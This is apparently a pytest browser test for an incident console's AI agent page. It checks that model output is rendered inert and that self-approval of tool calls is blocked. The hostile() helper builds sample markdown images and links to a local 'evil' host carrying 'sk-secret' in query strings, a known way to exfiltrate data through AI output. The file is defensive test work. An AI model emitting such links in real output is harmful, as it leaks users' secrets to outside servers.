"""The Agent page and the AI first look in Chromium, with no model configured and hostile model output.

Model output carrying `![x](http://evil/?d=…)`, links and bare addresses is rendered inert: a loopback
"evil" server records every hit and gets none. The page says up front that no model is configured;
a tool run by hand that needs approval does not hold the page; the requester cannot approve it;
the transcript reads as chat, not JSON.
"""

from __future__ import annotations

import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from app.assistant import service as records
from app.config import reset_settings
from app.db import reset_engines, session_scope, utcnow
from app.directory.service import add_member, create_user
from app.embedded import child_env, free_port
from app.incidents import service as incidents
from tests import browser, factories, infra

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(
        browser.chromium_missing(), reason=f"Debian Chromium is not installed at {browser.CHROMIUM}"
    ),
]
PASSWORD = "correct horse battery"
TITLE = "Disk full on db-9"


class EvilServer:
    """Answers anything with a 1x1 GIF and remembers every request (what an exfiltration would hit)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's naming
                outer.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def base(self) -> str:
        # "localhost", not the console's 127.0.0.1: the console's own host is an allowed link target.
        return f"http://localhost:{self.server.server_address[1]}"

    def __enter__(self) -> EvilServer:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile(evil: str) -> str:
    return (
        f"The disk is full. ![chart]({evil}/img.png?d=sk-secret) "
        f"See [the runbook]({evil}/doc?d=sk-secret), <{evil}/angle> or {evil}/bare?d=sk-secret.\n\n"
        f"![ref][1]\n\n[1]: {evil}/ref.png?d=sk-secret"
    )


def _seed(evil: str) -> tuple[int, str]:
    with session_scope() as s:
        rita = create_user(session=s, email="rita@example.test", name="Rita Responder", password=PASSWORD)
        team = factories.team(s)
        add_member(session=s, team_id=team.id, user_id=rita.id, role="responder")
        service = factories.service(s, team_id=team.id)
        incident = incidents.trigger_or_group(
            session=s, service_id=service.id, dedup_key="db-9", alert=factories.alert(summary=TITLE)
        ).incident
        incidents.record_event(
            session=s,
            incident_id=incident.id,
            kind="ai_analysis",
            at=utcnow(),
            actor="agent",
            data={"analysis": "## Summary\n\n" + hostile(evil), "model": "gpt-4o"},
        )
        sid = records.create_session(
            session=s, user_id=rita.id, incident_id=incident.id, title="db-9 disk"
        ).id
        for kind, content, data in (
            ("user_message", "What is going on?", {}),
            ("tool_call", "", {"call_id": "c1", "tool": "get_incident", "arguments": {"incident_id": 1}}),
            ("tool_result", '{"status": "triggered"}', {"call_id": "c1", "tool": "get_incident"}),
            ("assistant_message", hostile(evil), {"final": True}),
        ):
            records.append_message(session=s, session_id=sid, kind=kind, content=content, data=data)
        return incident.id, sid


def test_agent_page_without_a_model_renders_hostile_output_inert_and_never_blocks(
    fresh_database: str, output_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DATABASE_URL", fresh_database)
    reset_settings()
    reset_engines()
    try:
        with EvilServer() as evil:
            incident_id, sid = _seed(evil.base)
            port = free_port()
            env = child_env(
                {
                    "DATABASE_URL": fresh_database,
                    "AGENT_PORT": str(port),
                    "AGENT_APPROVAL_TIMEOUT_S": "600",
                    "DATA_DIR": str(output_dir / "agent-page-browser-data"),
                }
            )
            env.pop("OPENAI_API_KEY", None)
            env.pop("OPENAI_BASE_URL", None)
            agent_args = [sys.executable, "-m", "uvicorn", "agent.service:app", "--host", "127.0.0.1"]
            with (
                infra.process([*agent_args, "--port", str(port)], env, output_dir / "agent-page-service.log"),
                browser.console_server(
                    fresh_database, output_dir / "agent-page-console.log", {"AGENT_PORT": str(port)}
                ) as base,
                browser.chromium_page() as page,
            ):
                infra.wait_http(f"http://127.0.0.1:{port}/health", timeout=60)
                requests: list[str] = []
                page.on("request", lambda r: requests.append(r.url))
                browser.sign_in(page, base, "rita@example.test", PASSWORD)
                browser.open_page(page, "Agent", "agent")
                page.get_by_text("No language model is configured").first.wait_for(timeout=30_000)
                # The transcript reads as chat: sentences, the model's words with inert links.
                page.get_by_text("Asked to run get_incident").first.wait_for(timeout=30_000)
                page.get_by_text("[image: chart]").first.wait_for(timeout=10_000)
                assert page.get_by_text('"call_id"').count() == 0
                assert page.locator(f'a[href^="{evil.base}"]').count() == 0
                page.screenshot(path=str(output_dir / "agent-page-no-model.png"))

                # A tool that needs approval, run by hand: the page answers at once, the call waits.
                page.get_by_text("Run a tool by hand").click()
                browser.choose(page, "Tool", "acknowledge_incident")
                page.get_by_label("Arguments (JSON object)").fill(f'{{"incident_id": {incident_id}}}')
                previous = browser.run_number(page)
                page.get_by_role("button", name="Run").click()
                page.get_by_text("acknowledge_incident sent").wait_for(timeout=30_000)
                browser.finished_after(page, previous)
                with session_scope() as s:
                    (pending,) = records.pending_approvals(session=s, session_id=sid)
                    assert pending.tool == "acknowledge_incident" and pending.status == "pending"
                # The card is there for others; its requester sees why they cannot approve it.
                browser.open_page(page, "Agent", "agent")
                page.get_by_text(
                    "You can't approve this request: you asked for it, so someone else must approve it."
                ).wait_for(timeout=30_000)
                assert page.get_by_role("button", name="Approve").first.is_disabled()
                assert page.get_by_role("button", name="Deny").first.is_enabled()
                page.screenshot(path=str(output_dir / "agent-page-own-approval.png"))

                # The AI first look on the incident page is just as inert.
                browser.open_page(page, "Incidents", "incidents")
                previous = browser.run_number(page)
                page.get_by_role("link", name=TITLE).first.click()
                page.wait_for_url("**/incident?id=*", timeout=30_000)
                browser.finished_after(page, previous)
                page.get_by_text("AI first look").click()
                page.get_by_text("[image: chart]").first.wait_for(timeout=10_000)
                page.screenshot(path=str(output_dir / "incident-first-look-inert.png"))
                assert browser.exceptions(page) == []
            assert evil.hits == []
            assert not [u for u in requests if u.startswith(evil.base)]
            with session_scope() as s:
                assert incidents.get_incident(session=s, incident_id=incident_id).status == "triggered"
    finally:
        monkeypatch.undo()
        reset_settings()
        reset_engines()
